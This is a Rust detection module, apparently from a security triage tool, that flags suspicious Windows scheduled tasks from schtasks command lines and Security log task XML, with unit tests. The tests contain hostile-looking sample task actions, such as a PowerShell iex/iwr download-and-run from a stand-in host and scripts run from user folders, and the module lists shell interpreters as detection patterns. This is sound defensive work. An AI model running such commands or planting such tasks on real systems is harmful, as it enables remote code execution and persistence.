//! Scheduled tasks: `schtasks /create` command lines and the Security log's task events
//! (4698 created, 4699 deleted, with the task's XML).
//!
//! Facts: `proc.schtasks_create`, `proc.task_event`, `proc.task_deleted`,
//! `proc.task_name`, `proc.task_command`, `proc.task_frequency`, `proc.task_frequent`,
//! `proc.task_hidden` (the XML hides the task), `proc.task_user_writable` (the action runs
//! a program or script from a user-writable folder), `proc.task_shell` (the action is a
//! shell, script host or proxy binary), `proc.task_program_files` (the action is a program
//! installed under Program Files, not an interpreter), `proc.task_by_machine` (registered
//! by the computer itself: SYSTEM or the machine account), `proc.task_remote` (registered
//! through the task scheduler's `atsvc` pipe over the network, the way `at \\host` and
//! remote-execution tools do it), `proc.task_at_job` (named like an `at` job: `At1`).

use std::sync::LazyLock;

use regex::Regex;

use super::super::facts::{FactValue, Facts};
use super::host::{LOLBINS, USER_WRITABLE, all, arg_value, first};
use crate::view::basename;

/// Environment-variable spellings of the user-writable folders a task action may use.
static USER_WRITABLE_VAR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)%(?:temp|tmp|appdata|localappdata|public|programdata|userprofile)%")
        .expect("constant regex compiles")
});
static AT_JOB: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)^\\?at\d+$").expect("constant regex compiles"));

/// The text between `<tag>` and `</tag>` in a task's XML, entities decoded.
fn xml_value(xml: &str, tag: &str) -> Option<String> {
    let open = format!("<{tag}>");
    let start = xml.find(&open)? + open.len();
    let len = xml[start..].find(&format!("</{tag}>"))?;
    let v = xml[start..start + len]
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&");
    let v = v.trim();
    (!v.is_empty()).then(|| v.to_owned())
}

/// The program a task action or `/tr` value runs: its first token, quotes removed.
fn program(command: &str) -> &str {
    let c = command.trim();
    if let Some(r) = c.strip_prefix('"') {
        return r.split('"').next().unwrap_or(r);
    }
    // An unquoted path with spaces (`C:\Program Files\X\x.exe /a`): up to the program's
    // extension when there is one.
    let l = c.to_ascii_lowercase();
    if let Some(i) = [".exe", ".bat", ".cmd", ".ps1", ".vbs", ".js"]
        .iter()
        .filter_map(|e| l.find(e).map(|i| i + e.len()))
        .min()
    {
        return &c[..i];
    }
    c.split_whitespace().next().unwrap_or(c)
}

/// Interpreters that run whatever their arguments say, besides the Windows LOLBins.
const INTERPRETERS: &[&str] = &[
    "cmd", "python", "pythonw", "py", "pyw", "node", "bash", "sh", "wsl", "perl", "ruby", "php",
    "java", "javaw", "conhost", "forfiles",
];

fn is_shell(program: &str) -> bool {
    let b = basename(program);
    let b = b.strip_suffix(".exe").unwrap_or(&b);
    INTERPRETERS.contains(&b)
        || b.starts_with("python")
        || LOLBINS.iter().any(|l| l.strip_suffix(".exe") == Some(b))
}

pub(super) fn detect(f: &mut Facts<'_>, cmds: &[(String, String)]) {
    // `schtasks /create` on a command line.
    for (c, p) in cmds {
        let l = c.to_ascii_lowercase();
        if l.contains("schtasks") && (l.contains("/create") || l.contains("-create")) {
            f.set_flag("proc.schtasks_create", true, p.clone());
            if let Some(v) = arg_value(c, "/tr") {
                f.put_text("proc.task_command", v, p.clone());
            }
            if let Some(v) = arg_value(c, "/tn") {
                f.put_text("proc.task_name", v, p.clone());
            }
            if let Some(sc) = arg_value(c, "/sc") {
                let sc = sc.to_ascii_lowercase();
                let every = arg_value(c, "/mo").unwrap_or_else(|| "1".to_owned());
                let text = match sc.as_str() {
                    "minute" => format!("every {every} minute(s)"),
                    "hourly" => format!("every {every} hour(s)"),
                    "daily" => format!("every {every} day(s)"),
                    "onlogon" => "at every logon".to_owned(),
                    "onstart" => "at every start".to_owned(),
                    "onidle" => "whenever the system is idle".to_owned(),
                    other => format!("schedule {other}"),
                };
                f.put_text("proc.task_frequency", text, p.clone());
                if matches!(sc.as_str(), "minute" | "onlogon" | "onstart" | "onidle") {
                    f.set_flag("proc.task_frequent", true, p.clone());
                }
            }
        }
    }

    // The Security log's task events.
    let ids: Vec<(String, String)> = all(f, &["EventID", "event_id"]);
    let created = ids.iter().find(|(v, _)| v == "4698");
    let deleted = ids.iter().find(|(v, _)| v == "4699");
    if let Some((_, p)) = created {
        f.set_flag("proc.task_event", true, p.clone());
        if let Some((n, p)) = first(f, &["TaskName"]) {
            if AT_JOB.is_match(n.trim()) {
                f.set_flag("proc.task_at_job", true, p.clone());
            }
            f.put_text("proc.task_name", n, p);
        }
    }
    if let (Some(_), Some((_, p))) = (created, deleted) {
        f.set_flag("proc.task_deleted", true, p.clone());
    }
    // The registered task's XML: what it runs, as whom, and whether it hides.
    let contents = all(f, &["TaskContent"]);
    for (xml, p) in &contents {
        if let Some(cmd) = xml_value(xml, "Command") {
            let action = match xml_value(xml, "Arguments") {
                Some(args) => format!("{cmd} {args}"),
                None => cmd,
            };
            if f.get("proc.task_command").is_none() {
                f.put_text("proc.task_command", action, p.clone());
            }
        }
        let hidden =
            xml_value(xml, "Hidden").is_some_and(|h| h.eq_ignore_ascii_case("true") || h == "1");
        if hidden {
            f.set_flag("proc.task_hidden", true, p.clone());
        }
    }
    // Who registered it: the event carrying the XML names the subject.
    let machine = f.events.iter().any(|e| {
        e.get("TaskContent").is_some()
            && (e.get("SubjectUserSid") == Some("S-1-5-18")
                || e.get("SubjectUserName").is_some_and(|u| u.ends_with('$')))
    });
    if let (true, Some((_, p))) = (machine, contents.first()) {
        f.set_flag("proc.task_by_machine", true, p.clone());
    }
    // Registered over the network through the scheduler's pipe (a share access to
    // `IPC$\atsvc`).
    let remote = f.events.iter().any(|e| {
        e.get("RelativeTargetName")
            .is_some_and(|t| t.trim_matches('\\').eq_ignore_ascii_case("atsvc"))
    });
    if remote && let Some((_, p)) = first(f, &["RelativeTargetName"]) {
        f.set_flag("proc.task_remote", true, p);
    }

    // What the action runs.
    let Some((command, p)) = f
        .get("proc.task_command")
        .and_then(|fact| match &fact.value {
            FactValue::Text(c) => Some((c.clone(), fact.source.clone())),
            _ => None,
        })
    else {
        return;
    };
    let prog = program(&command);
    let writable = USER_WRITABLE.is_match(&command) || USER_WRITABLE_VAR.is_match(&command);
    f.set_flag("proc.task_user_writable", writable, p.clone());
    let shell = is_shell(prog);
    f.set_flag("proc.task_shell", shell, p.clone());
    let lp = prog.to_ascii_lowercase();
    let lc = command.to_ascii_lowercase();
    // Arguments that fetch or reach elsewhere: not what an installed program's own task
    // passes it.
    let reaches_out = lc.contains("http://") || lc.contains("https://") || lc.contains("\\\\");
    let program_files = (lp.starts_with("c:\\program files\\")
        || lp.starts_with("c:\\program files (x86)\\")
        || lp.starts_with("%programfiles%\\")
        || lp.starts_with("%programfiles(x86)%\\"))
        && !lp.contains("..")
        && !shell
        && !writable
        && !reaches_out;
    f.set_flag("proc.task_program_files", program_files, p);
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};
    use soc_core::{Confidence, Verdict};

    use super::*;
    use crate::playbook::test_support;
    use crate::triage::Triage;

    fn task_xml(command: &str, arguments: Option<&str>, hidden: bool) -> String {
        let args = arguments.map_or(String::new(), |a| format!("<Arguments>{a}</Arguments>"));
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Settings><Hidden>{hidden}</Hidden></Settings><Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals><Actions Context=\"Author\"><Exec><Command>{command}</Command>{args}</Exec></Actions></Task>"
        )
    }

    fn created(by_sid: &str, by_name: &str, name: &str, xml: &str) -> Value {
        json!({"log_source": "windows_eventlog", "provider": "Microsoft-Windows-Security-Auditing", "channel": "Security",
               "event_id": 4698, "computer": "srv-app-01.corp.example",
               "event_data": {"SubjectUserSid": by_sid, "SubjectUserName": by_name, "TaskName": name, "TaskContent": xml}})
    }

    fn atsvc_access() -> Value {
        json!({"log_source": "windows_eventlog", "provider": "Microsoft-Windows-Security-Auditing", "channel": "Security",
               "event_id": 5145, "computer": "srv-app-01.corp.example",
               "event_data": {"SubjectUserName": "adm-ops", "IpAddress": "10.0.4.20", "ShareName": "\\\\*\\IPC$", "RelativeTargetName": "atsvc"}})
    }

    fn run(events: &[Value]) -> Triage {
        let raw = if let [one] = events {
            one.clone()
        } else {
            json!({"log_source": "windows_eventlog", "events": events})
        };
        test_support::run(&test_support::alert("Scheduled task created", &raw), &[])
    }

    fn outcome(t: &Triage) -> (&str, Verdict, Confidence) {
        (
            t.assessment.family.as_str(),
            t.assessment.verdict,
            t.assessment.confidence,
        )
    }

    #[test]
    fn a_task_registered_over_the_atsvc_pipe_to_run_a_user_folder_program_is_remote_execution() {
        let admin = "S-1-5-21-1-2-3-500";
        let xml = task_xml("C:\\ProgramData\\svc\\upd.exe", None, false);
        let t = run(&[
            atsvc_access(),
            created(admin, "Administrator", "\\At1", &xml),
        ]);
        assert_eq!(
            outcome(&t),
            ("scheduled_task", Verdict::TruePositive, Confidence::Medium)
        );
        let ids: Vec<&str> = t
            .assessment
            .techniques
            .iter()
            .map(|t| t.id.as_str())
            .collect();
        for want in ["T1053.005", "T1053.002", "T1021.002"] {
            assert!(ids.contains(&want), "{want}: {ids:?}");
        }
        // The same task without the pipe access: nothing says it came from elsewhere.
        let t = run(&[created(admin, "Administrator", "\\Updater", &xml)]);
        assert_eq!(t.assessment.verdict, Verdict::Inconclusive);
        // Over the pipe, but an installed program: no user folder, shell or hiding.
        let installed = task_xml(
            "\"C:\\Program Files\\Vendor\\agent.exe\"",
            Some("/sync"),
            false,
        );
        let t = run(&[
            atsvc_access(),
            created(admin, "Administrator", "\\Sync", &installed),
        ]);
        assert_eq!(t.assessment.verdict, Verdict::Inconclusive);
    }

    #[test]
    fn a_ticket_naming_the_task_work_does_not_sanction_what_the_task_runs() {
        let with_ticket = |xml: &str| {
            let mut ev = created("S-1-5-21-1-2-3-500", "adm-ops", "\\Cleanup", xml);
            ev["siem_context"] =
                json!({"change_ticket": "CHG-40301 clean up stale scheduled tasks on laptops"});
            run(&[ev])
        };
        for xml in [
            task_xml("C:\\Users\\ann\\AppData\\Roaming\\x\\upd.exe", None, false),
            task_xml("cmd.exe", Some("/c C:\\Users\\Public\\s.bat"), false),
        ] {
            let t = with_ticket(&xml);
            assert_ne!(t.assessment.verdict, Verdict::FalsePositive, "{xml}");
        }
    }

    #[test]
    fn a_hidden_task_running_a_shell_or_user_folder_program_is_persistence() {
        let xml = task_xml(
            "powershell.exe",
            Some("-nop -f C:\\Users\\ann\\AppData\\Roaming\\s.ps1"),
            true,
        );
        let t = run(&[created(
            "S-1-5-21-1-2-3-1104",
            "ann",
            "\\OneDrive Sync",
            &xml,
        )]);
        assert_eq!(
            outcome(&t),
            ("scheduled_task", Verdict::TruePositive, Confidence::Medium)
        );
        // Not hidden: tier 0 cannot tell an admin's script task from persistence.
        let xml = task_xml(
            "powershell.exe",
            Some("-nop -f C:\\Users\\ann\\AppData\\Roaming\\s.ps1"),
            false,
        );
        let t = run(&[created(
            "S-1-5-21-1-2-3-1104",
            "ann",
            "\\OneDrive Sync",
            &xml,
        )]);
        assert_eq!(t.assessment.verdict, Verdict::Inconclusive);
    }

    #[test]
    fn only_the_computers_own_task_for_an_installed_program_is_benign_and_only_at_low_confidence() {
        let updater = task_xml(
            "C:\\Program Files (x86)\\Vendor\\Update\\VendorUpdate.exe",
            Some("/ua /installsource scheduler"),
            false,
        );
        let t = run(&[created(
            "S-1-5-18",
            "WS-FIN-007$",
            "\\VendorUpdateTaskMachineUA",
            &updater,
        )]);
        assert_eq!(
            outcome(&t),
            ("scheduled_task", Verdict::FalsePositive, Confidence::Low)
        );
        for (why, events) in [
            (
                "registered by a user",
                vec![created(
                    "S-1-5-21-1-2-3-1104",
                    "ann",
                    "\\VendorUpdate",
                    &updater,
                )],
            ),
            (
                "registered over the network",
                vec![
                    atsvc_access(),
                    created("S-1-5-18", "WS-FIN-007$", "\\VendorUpdate", &updater),
                ],
            ),
            (
                "hidden",
                vec![created(
                    "S-1-5-18",
                    "WS-FIN-007$",
                    "\\VendorUpdate",
                    &task_xml("C:\\Program Files\\Vendor\\u.exe", None, true),
                )],
            ),
            (
                "an interpreter, not an installed program",
                vec![created(
                    "S-1-5-18",
                    "WS-FIN-007$",
                    "\\VendorUpdate",
                    &task_xml(
                        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
                        Some("-c iex(iwr http://x.example/a)"),
                        false,
                    ),
                )],
            ),
            (
                "climbing out of Program Files",
                vec![created(
                    "S-1-5-18",
                    "WS-FIN-007$",
                    "\\VendorUpdate",
                    &task_xml("C:\\Program Files\\..\\Windows\\Tasks\\u.exe", None, false),
                )],
            ),
            (
                "an interpreter installed under Program Files",
                vec![created(
                    "S-1-5-18",
                    "WS-FIN-007$",
                    "\\VendorUpdate",
                    &task_xml(
                        "C:\\Program Files\\Python312\\python.exe",
                        Some("-c exec(urlopen('x'))"),
                        false,
                    ),
                )],
            ),
            (
                "an installed program told to fetch from the web",
                vec![created(
                    "S-1-5-18",
                    "WS-FIN-007$",
                    "\\VendorUpdate",
                    &task_xml(
                        "C:\\Program Files\\Vendor\\u.exe",
                        Some("--from https://x.example/p.bin"),
                        false,
                    ),
                )],
            ),
            (
                "hidden, written as 1",
                vec![created(
                    "S-1-5-18",
                    "WS-FIN-007$",
                    "\\VendorUpdate",
                    &task_xml("C:\\Program Files\\Vendor\\u.exe", None, false)
                        .replace("<Hidden>false</Hidden>", "<Hidden>1</Hidden>"),
                )],
            ),
            (
                "named like an at job",
                vec![created("S-1-5-18", "WS-FIN-007$", "\\At3", &updater)],
            ),
        ] {
            let t = run(&events);
            assert_ne!(t.assessment.verdict, Verdict::FalsePositive, "{why}");
        }
    }

    #[test]
    fn task_xml_values_and_programs() {
        let xml = "<Task><Actions><Exec><Command>\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\"</Command><Arguments>/ua &amp; /x</Arguments></Exec></Actions></Task>";
        assert_eq!(
            xml_value(xml, "Command").as_deref(),
            Some("\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\"")
        );
        assert_eq!(xml_value(xml, "Arguments").as_deref(), Some("/ua & /x"));
        assert_eq!(xml_value(xml, "Hidden"), None);
        assert_eq!(xml_value("<Command></Command>", "Command"), None);
        for (cmd, prog) in [
            (
                "\"C:\\Program Files\\A B\\up.exe\" /s",
                "C:\\Program Files\\A B\\up.exe",
            ),
            (
                "C:\\Program Files\\A B\\up.exe /s",
                "C:\\Program Files\\A B\\up.exe",
            ),
            ("cmd.exe /c whoami", "cmd.exe"),
            ("C:\\ProgramData\\msupd.exe", "C:\\ProgramData\\msupd.exe"),
            ("notepad", "notepad"),
        ] {
            assert_eq!(program(cmd), prog, "{cmd}");
        }
        assert!(is_shell(
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        ));
        assert!(is_shell("cmd"));
        assert!(!is_shell("C:\\Program Files\\X\\x.exe"));
    }
}
